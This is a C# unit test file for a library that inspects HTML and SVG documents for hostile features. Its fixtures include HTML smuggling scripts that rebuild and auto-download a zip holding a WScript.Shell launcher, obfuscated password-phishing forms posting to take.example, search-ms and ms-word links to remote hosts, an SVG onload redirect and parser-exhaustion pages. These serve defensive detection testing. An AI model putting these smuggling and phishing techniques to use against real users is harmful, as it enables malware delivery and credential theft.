using System.Text;

namespace Bezel.Documents.Tests;

public class PageTests
{
    private static DocumentInspection Inspect(string text) => DocumentInspection.Inspect("page.html", null, Encoding.UTF8.GetBytes(text));
    private static string[] Details(DocumentInspection seen, FactKind kind) => [.. seen.Facts.Where(fact => fact.Kind == kind).Select(fact => fact.Detail)];
    private static string Page(string script, string body = "<p>Your bill is ready</p>") => $"<html><head><title>Bill</title></head><body>{body}<script>{script}</script></body></html>";
    private static string Zipped => Convert.ToBase64String(SampleFiles.Zip(("bill.js", "var a = new ActiveXObject('WScript.Shell');\na.Run('calc.exe');\neval('1');")));

    [Fact]
    public void Sees_a_file_that_the_script_hands_over()
    {
        string[] scripts =
        [
            $"var d = atob('{Zipped}'); var b = new Blob([d]); var a = document.createElement('a'); a.href = URL.createObjectURL(b); a.download = 'bill.zip'; a.click();",
            $"var p = '{Zipped[..50]}' + '{Zipped[50..]}'; var b = new Blob([decode(p)]); window.navigator.msSaveOrOpenBlob(b, 'bill.zip');",
            $"var u = new Uint8Array([{string.Join(',', Convert.FromBase64String(Zipped))}]); var a = document.createElement('a'); a.href = URL.createObjectURL(new Blob([u])); a.setAttribute('download', 'bill.zip');",
            $"var h = '{Convert.ToHexString(Convert.FromBase64String(Zipped))}'; var b = new Blob([hex(h)]); saveAs(b, 'bill.zip'); URL.createObjectURL(b);",
        ];
        foreach (string script in scripts)
        {
            DocumentInspection seen = Inspect(Page(script));
            Details(seen, FactKind.SmugglesFile).ShouldBe(["bill.zip"], script[..80]);
            seen.Files.Select(file => file.Type).ShouldContain(FileType.Zip);
            seen.Facts.ShouldContain(fact => fact.Kind == FactKind.StartsProgram && fact.Where == "bill.zip/bill.js");
        }
    }

    [Fact]
    public void Sees_a_file_behind_a_link()
    {
        DocumentInspection seen = Inspect($"<html><body><a download=\"bill.zip\" href=\"data:application/zip;base64,{Zipped}\">Open</a></body></html>");
        Details(seen, FactKind.SmugglesFile).ShouldBe(["bill.zip"]);
        seen.Files.ShouldContain(file => file.Type == FileType.Zip);
    }

    [Fact]
    public void Says_when_only_the_script_can_put_the_file_together()
    {
        string noise = Convert.ToBase64String([.. Enumerable.Range(0, 3000).Select(i => (byte)(i * 137 % 251))]);
        DocumentInspection seen = Inspect(Page($"var k = 7, d = '{noise}'; var o = []; for (var i = 0; i < d.length; i++) o.push(d.charCodeAt(i) ^ k); var b = new Blob([o]); var a = document.createElement('a'); a.href = URL.createObjectURL(b); a.download = 'bill.iso'; a.click();"));
        Details(seen, FactKind.SmugglesFile).ShouldBe(["bill.iso"]);
        seen.CouldNotCheck.ShouldNotBeNull();
    }

    [Theory]
    [InlineData("var rows = [['a','b'],['c','d']]; var b = new Blob([rows.join('\\n')], {type:'text/csv'}); var a = document.createElement('a'); a.href = URL.createObjectURL(b); a.download = 'table.csv';")]
    [InlineData("var total = 0; document.getElementById('x').innerHTML = '<b>' + total + '</b>'; var m = /a+/.exec('aa'); app.run('x');")]
    public void Leaves_ordinary_scripts_alone(string script)
    {
        DocumentInspection seen = Inspect(Page(script));
        seen.Facts.Select(fact => fact.Kind).ShouldBe([FactKind.JavaScript]);
    }

    [Theory]
    [InlineData("document.write(unescape('%3Cform%20action%3D%22https%3A%2F%2Ftake.example%2Fp%22%3EYour%20mailbox%3Cinput%20type%3Dpassword%3E%3C%2Fform%3E'));")]
    [InlineData("document.write(atob('PGZvcm0gYWN0aW9uPSJodHRwczovL3Rha2UuZXhhbXBsZS9wIj5Zb3VyIG1haWxib3g8aW5wdXQgdHlwZT1wYXNzd29yZD48L2Zvcm0+'));")]
    [InlineData("var h = '<fo' + 'rm action=\"https://take.ex' + 'ample/p\">Your mail' + 'box<input type=pass' + 'word></form>'; document.body.innerHTML = h;")]
    [InlineData("var s = '\\x3cform action=\"https://take.example/p\"\\x3eYour mailbox\\x3cinput type=password\\x3e\\x3c/form\\x3e'; document.write(s);")]
    [InlineData("document.write(String.fromCharCode(60,102,111,114,109,32,97,99,116,105,111,110,61,34,104,116,116,112,115,58,47,47,116,97,107,101,46,101,120,97,109,112,108,101,47,112,34,62,89,111,117,114,32,109,97,105,108,98,111,120,60,105,110,112,117,116,32,116,121,112,101,61,112,97,115,115,119,111,114,100,62,60,47,102,111,114,109,62));")]
    public void Reads_the_page_that_a_script_writes(string script)
    {
        DocumentInspection seen = Inspect(Page(script));
        Details(seen, FactKind.PasswordForm).ShouldBe(["https://take.example/p"]);
        Details(seen, FactKind.SubmitForm).ShouldBe(["https://take.example/p"]);
        seen.Has(FactKind.ScriptBuildsPage).ShouldBeTrue();
        seen.Text.ShouldContain("Your mailbox");
    }

    [Fact]
    public void Says_when_a_page_cannot_be_read_without_running_it()
    {
        Details(Inspect(Page("var k = location.hash; document.write(decodeURIComponent(turn(k, 'x')));")), FactKind.ScriptBuildsPage).ShouldHaveSingleItem().ShouldContain("decodeURIComponent");
        Inspect(Page("eval(function(p,a,c,k,e,d){return p}('0 1',2,2,'a|b'.split('|'),0,{}))")).Has(FactKind.Obfuscated).ShouldBeTrue();
    }

    [Fact]
    public void Says_where_a_form_without_an_address_sends_the_password()
    {
        DocumentInspection seen = Inspect(Page("var f = 'https://take.example/' + 'x.php'; document.forms[0].onsubmit = function () { fetch(f, {method:'POST'}); };", "<form><input type=password name=p></form>"));
        Details(seen, FactKind.PasswordForm).ShouldBe(["https://take.example/x.php"]);
        Inspect("<html><body><form action='/search'><input type=text name=q></form></body></html>").Facts.Select(fact => fact.Kind).ShouldBe([FactKind.Form]);
    }

    [Fact]
    public void Notes_what_leads_elsewhere()
    {
        DocumentInspection seen = Inspect("<html><head><meta http-equiv=refresh content='0;url=https://go.example/x'></head><body><a href='search-ms:query=bill&crumb=location:\\\\dav.example\\s'>Open</a><iframe src='https://frame.example/'></iframe><script src='//cdn.example/a.js'></script><a href='ms-word:ofe|u|https://doc.example/a.docx'>d</a></body></html>");
        Details(seen, FactKind.OpensElsewhere).ShouldBe(["search-ms:query=bill&crumb=location:\\\\dav.example\\s", "ms-word:ofe|u|https://doc.example/a.docx", "https://go.example/x"], ignoreOrder: true);
        Details(seen, FactKind.ExternalContent).ShouldBe(["https://frame.example/", "//cdn.example/a.js"], ignoreOrder: true);
        Details(Inspect(Page("window.location.href = 'https://go' + '.example/y';")), FactKind.OpensElsewhere).ShouldBe(["https://go.example/y"]);
    }

    [Fact]
    public void Reads_pages_inside_the_page()
    {
        DocumentInspection seen = Inspect("<html><body><iframe srcdoc=\"&lt;form action='https://take.example/s'&gt;&lt;input type=password&gt;&lt;/form&gt;\"></iframe><iframe src=\"data:text/html;base64," + Convert.ToBase64String("<html><body><form action='https://take.example/d'><input type=password></form></body></html>"u8) + "\"></iframe></body></html>");
        Details(seen, FactKind.PasswordForm).ShouldBe(["https://take.example/s", "https://take.example/d"], ignoreOrder: true);
    }

    [Fact]
    public void Carries_the_pictures_of_a_page()
    {
        byte[] gif = [.. "GIF89a"u8, 1, 0, 1, 0, 0x80, 0, 0, 0, 0, 0, 255, 255, 255, 0x2C, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 1, 0, 0x3B, .. new byte[20]];
        DocumentInspection seen = Inspect($"<html><body><img src=\"data:image/gif;base64,{Convert.ToBase64String(gif)}\"></body></html>");
        seen.Files.ShouldHaveSingleItem().Type.ShouldBe(FileType.Gif);
        seen.Has(FactKind.SmugglesFile).ShouldBeFalse();
    }

    [Fact]
    public void Reads_drawings_with_script_and_pages()
    {
        string svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"location='https://go.example/z'\"><text>Invoice 7</text><foreignObject><body xmlns=\"http://www.w3.org/1999/xhtml\"><form action=\"https://take.example/v\"><input type=\"password\"/></form></body></foreignObject></svg>";
        DocumentInspection seen = DocumentInspection.Inspect("bill.svg", null, Encoding.UTF8.GetBytes(svg));
        seen.TrueType.ShouldBe(FileType.Svg);
        Details(seen, FactKind.PasswordForm).ShouldBe(["https://take.example/v"]);
        Details(seen, FactKind.OpensElsewhere).ShouldBe(["https://go.example/z"]);
        Inspect("<svg xmlns=\"http://www.w3.org/2000/svg\"><circle r=\"4\"/><text>Ring</text></svg>").Facts.ShouldBeEmpty();
    }

    [Fact]
    public void Bounds_pages_that_never_end()
    {
        string[] pages =
        [
            "<html>" + string.Concat(Enumerable.Repeat("<a ='", 100_000)), "<html>" + string.Concat(Enumerable.Repeat("<script>document.write('<script>", 20_000)),
            "<html>" + string.Concat(Enumerable.Repeat("<iframe srcdoc=\"<iframe srcdoc='", 20_000)), "<html><img src=\"data:image/png;base64," + new string('A', 8 << 20) + "\">",
            "<html>" + string.Concat(Enumerable.Repeat("<img src=\"data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7\">", 5_000)),
            Page("document.write(unescape('" + string.Concat(Enumerable.Repeat("%3Cscript%3Edocument.write(unescape('", 5_000)) + "'))"),
        ];
        foreach (string page in pages)
            Inspect(page).Defects.Where(d => d.Kind == DocumentDefectKind.ReaderFailed).ShouldBeEmpty();
    }
}
